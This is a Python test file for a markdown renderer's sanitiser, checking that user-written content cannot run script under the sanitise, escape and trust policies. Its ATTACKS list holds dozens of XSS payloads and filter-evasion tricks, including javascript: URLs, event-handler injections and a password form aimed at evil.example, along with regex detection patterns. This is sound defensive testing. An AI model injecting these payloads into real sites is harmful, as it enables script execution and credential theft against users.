"""Writers are trusted to write, not to script."""

from __future__ import annotations

import re

import pytest

from tests.content.markdown.cases import render

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror\n="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#1; javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a/href="javascript:alert(1)">x</a>',
    '<a title=">" href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>*{display:none}</style>",
    '<form action="https://evil.example"><input name=password></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<div><p title="</p><img src=x onerror=alert(1)>">x</p></div>',
    "<!--><img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '```" onmouseover="alert(1)\nx\n```',
    '```x title="<img src=x onerror=alert(1)>"\nx\n```',
    '## x {#"onclick="alert(1)}',
    '- a {#"><img/src=x/onerror=alert(1)>}',
    '![a](https://x.se/a.png){width="1" onerror="x"}',
    '> [!"><script>alert(1)</script>]\n> x',
    "::: details <img src=x onerror=alert(1)>\nx\n:::",
]  # fmt: skip

TAG = re.compile(r"<[^>]*>")
EVENT = re.compile(r"[\s\"'/]on[a-z]+\s*=", re.IGNORECASE)
BAD_TAG = re.compile(r"</?(?:script|style|iframe|object|embed|svg|math|form|base|meta|link|noscript)\b", re.IGNORECASE)
BAD_URL = re.compile(r"(?:href|src|action|data)=\"[\s]*(?:javascript|data:text|data:image/svg|vbscript)", re.IGNORECASE)


@pytest.mark.parametrize("policy", ["sanitise", "escape"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs(attack, policy):
    body = render(f"before\n\n{attack}\n\nafter\n", policy=policy)
    html = body.body.html
    assert "before" in html
    for tag in TAG.findall(html):
        quoted = re.sub(r"\"[^\"]*\"", '""', tag)
        assert not EVENT.search(quoted), tag
        assert " style=" not in quoted, tag
    assert not BAD_TAG.search(html)
    assert not BAD_URL.search(html)
    for reference in (*(link.target for link in body.outline.links), *(image.src for image in body.outline.images)):
        assert not reference.lower().startswith(("javascript:", "vbscript:", "data:"))


def test_what_kbgen_writes_survives_beside_raw_html():
    source = (
        "> [!NOTE] *T*\n> [l](a.md)\n\n| a |\n|:-:|\n| ![i](b.png) |\n\n```php\n$a;\n```\n\n- [x] t[^1]\n\n[^1]: f\n\n## H {#h}\n\n"
        "::: details S\nx\n:::\n"
    )
    plain, dirty = render(source).body.html, render(source + "\n<div>raw</div>\n").body.html

    def parts(html):
        return sorted(
            re.sub(r'=""', "", " ".join(sorted(tag.strip("<>").split())))
            for tag in TAG.findall(html)
            if "div>" not in tag
        )

    assert parts(plain) == parts(dirty)
    assert re.findall("\x02.*?\x03", plain) == re.findall("\x02.*?\x03", dirty)


def test_trusted_html_stays_and_its_references_are_resolved():
    body = render(
        '<div onclick="x()"><a href="a.md">a</a><img src="b.png"></div>\n\nx <my-tag> <!-- c -->\n', policy="trust"
    )
    assert body.body.html.startswith('<div onclick="x()">\x02a0\x03a\x02z0\x03\x02i0\x03</div>')
    assert "<my-tag> <!-- c -->" in body.body.html


@pytest.mark.parametrize("html", ['<a href=" java\tscript:x()">a</a>', '<img src="javascript:x()" alt="a">'])
def test_addresses_that_run_script_never_pass(html):
    body = render(f"b {html}\n\n<div>{html}</div>\n", policy="trust")
    assert body.body.html == "<p>b a</p>\n<div>a</div>\n"
    assert [problem.code for problem in body.problems] == ["link-unsafe", "link-unsafe"]


def test_escaped_html_is_text():
    assert render("a <b>c</b>\n", policy="escape").body.html == "<p>a &lt;b&gt;c&lt;/b&gt;</p>\n"


def test_a_picture_may_be_data_and_nothing_else():
    html = render('<p><img src="data:image/png;base64,AA=="></p>\n').body.html
    assert 'src="data:image/png;base64,AA=="' in html


def test_raw_html_cannot_forge_references():
    html = render('<div title="&#2;a0&#3;">&#2;a0&#3; &#x002;i1&#X3;</div>\n').body.html
    assert "\x02" not in html
